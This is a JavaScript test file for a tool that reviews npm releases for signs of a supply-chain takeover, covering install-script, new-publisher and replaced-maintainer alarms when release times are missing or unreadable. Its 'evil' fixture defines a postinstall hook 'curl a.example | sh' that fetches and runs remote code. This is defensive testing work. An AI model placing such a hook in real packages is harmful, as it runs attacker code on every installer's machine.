// Releases whose time is missing or unreadable: such a release may be a part of the attack, so it hides no signal.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { reviewRelease } from 'npm-hooks/packument'
import { maintainedBy, packumentOf, publishedBy, script } from './releases.js'

const evil = { ...script({ postinstall: 'curl a.example | sh' }), ...publishedBy('b'), ...maintainedBy('b') }
const good = maintainedBy('a')
const OLD = '2020-01-02'
const NEW = '2020-03-01'
const ALARMS = ['install-script alarm', 'publisher-new alarm', 'maintainers-replaced alarm']

/** `[title, releases, those whose time is not known, signals of the last]`. */
const HISTORIES = [
  [
    'a part of the attack',
    [
      ['1.0.0', OLD, good],
      ['1.0.1', NEW, evil],
      ['1.0.2', NEW, evil],
    ],
    ['1.0.1'],
    ALARMS,
  ],
  [
    'a part of the attack, of a lower version',
    [
      ['1.0.0', OLD, good],
      ['0.9.0', NEW, evil],
      ['1.0.2', NEW, evil],
    ],
    ['0.9.0'],
    ALARMS,
  ],
  [
    'the only release with a maintainer',
    [
      ['1.0.0', OLD, good],
      ['1.0.1', NEW, { ...good, ...evil }],
      ['1.0.2', NEW, evil],
    ],
    ['1.0.1'],
    ALARMS,
  ],
  [
    'a clean one',
    [
      ['1.0.0', OLD, good],
      ['1.0.1', OLD, good],
      ['1.0.2', NEW, evil],
    ],
    ['1.0.1'],
    ALARMS,
  ],
  [
    'the only one before',
    [
      ['1.0.0', OLD, good],
      ['1.0.1', NEW, evil],
    ],
    ['1.0.0'],
    ALARMS,
  ],
  [
    'all before, parts of the attack',
    [
      ['1.0.0', NEW, evil],
      ['1.0.1', NEW, evil],
    ],
    ['1.0.0'],
    ['install-script notice'],
  ],
  [
    'a clean one before clean ones',
    [
      ['1.0.0', OLD, good],
      ['1.0.1', OLD, good],
      ['1.0.2', NEW, good],
    ],
    ['1.0.1'],
    [],
  ],
  [
    'after a pause of a year',
    [
      ['1.0.0', '2018-01-01', good],
      ['1.0.1', NEW, good],
      ['1.0.2', NEW, good],
    ],
    ['1.0.1'],
    ['dormant-revived notice'],
  ],
]

for (const [what, releases, unknown, want] of HISTORIES) {
  for (const time of [undefined, 'yesterday', '']) {
    test(`a release with the time ${time}: ${what}`, () => {
      const packument = packumentOf(releases.map(([version, time, release]) => ({ version, time, ...release })))
      for (const version of unknown) packument.time[version] = time
      const signals = reviewRelease(JSON.stringify(packument), releases.at(-1)[0])
      assert.deepEqual(
        signals.map(({ code, level }) => `${code} ${level}`),
        want,
      )
    })
  }
}
